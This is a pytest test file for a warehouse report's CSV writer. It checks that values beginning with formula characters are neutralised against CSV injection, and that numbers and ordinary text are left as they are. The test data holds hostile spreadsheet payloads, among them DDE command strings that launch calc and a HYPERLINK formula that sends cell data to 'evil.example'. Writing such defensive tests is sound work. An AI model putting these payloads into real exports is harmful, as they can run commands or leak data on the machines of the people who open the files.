"""The report's CSV cells: no live spreadsheet formula in any CSV `ecom report` writes (OWASP CSV
injection), numbers unchanged. Pure unit tests: no stack."""

from __future__ import annotations

import csv
from datetime import datetime
from decimal import Decimal

import pytest

from warehouse.report import FORMULA_START, csv_cell, write_csv

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://x")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_owasp_leading_character_is_neutralised(start):
    text = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HOSTILE)
def test_formulas_get_a_quote_in_front(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", [" =cmd|' /C calc'!A0", "   +1+1", "\u00a0@SUM(A1)", " \t-1+A1", "\n \r=1"])
def test_whitespace_before_a_formula_does_not_hide_it(text):
    # The warehouse trims descriptions, and a spreadsheet may skip leading blanks: " =cmd" is "=cmd".
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("number", [Decimal("-27.5"), Decimal("-0.001"), -3, -27.5, Decimal("1234.560"), 0, 7.25])
def test_numbers_stay_numbers_unchanged(number):
    assert csv_cell(number) is number


@pytest.mark.parametrize("text", ["-5", "+3.5", "-0.25", "12", "1e3", "-.5"])
def test_text_that_is_a_plain_number_is_left_alone(text):
    # A spreadsheet reads it as that number, which cannot call anything; a quote would change the value.
    assert csv_cell(text) == text


@pytest.mark.parametrize("text", ["-5+1", "-1)*A1", " -5", "-5 ", "--5", "-", "+", "-٥"])
def test_anything_more_than_a_plain_number_is_neutralised(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "WHITE HANGING HEART T-LIGHT HOLDER",
        "United Kingdom",
        "EIRE",
        "85123A",
        "C536379",
        "?",
        "*Boombox Ipod Classic",
        "£10 voucher",
        "a=b",
        "x-y",
        "",
        "'=already text",
        "2011-12-09",
    ],
)
def test_ordinary_text_is_unchanged(text):
    assert csv_cell(text) == text


def test_none_datetime_and_bool():
    assert csv_cell(None) == ""
    assert csv_cell(datetime(2011, 12, 9, 12, 50)) == "2011-12-09 12:50:00"
    assert csv_cell(True) is True


def test_every_leading_character_is_covered():
    assert {"=", "+", "-", "@", "\t", "\r"} <= set(FORMULA_START)


def test_written_csv_holds_no_live_formula(tmp_path):
    """The writer the report uses (write_csv): what a spreadsheet reads back has no cell starting
    with a formula character, the numbers read back as they were, and the text only gains the quote."""
    rows = [(i, text, Decimal("-27.5"), -3, None) for i, text in enumerate(HOSTILE + [" =cmd", "LUNCH BAG", "-5"])]
    path = tmp_path / "view.csv"
    write_csv(path, ["n", "description", "revenue", "quantity", "customer_id"], rows)
    with open(path, encoding="utf-8", newline="") as handle:
        read = list(csv.reader(handle))
    assert read[0] == ["n", "description", "revenue", "quantity", "customer_id"]
    body = read[1:]
    assert [r[1] for r in body] == ["'" + t for t in HOSTILE + [" =cmd"]] + ["LUNCH BAG", "-5"]
    for r in body:
        assert r[2:] == ["-27.5", "-3", ""]
        for cell in r:
            assert not cell.lstrip().startswith(("=", "+", "@", "\t", "\r", "\n", "\0")) or cell.startswith("'")
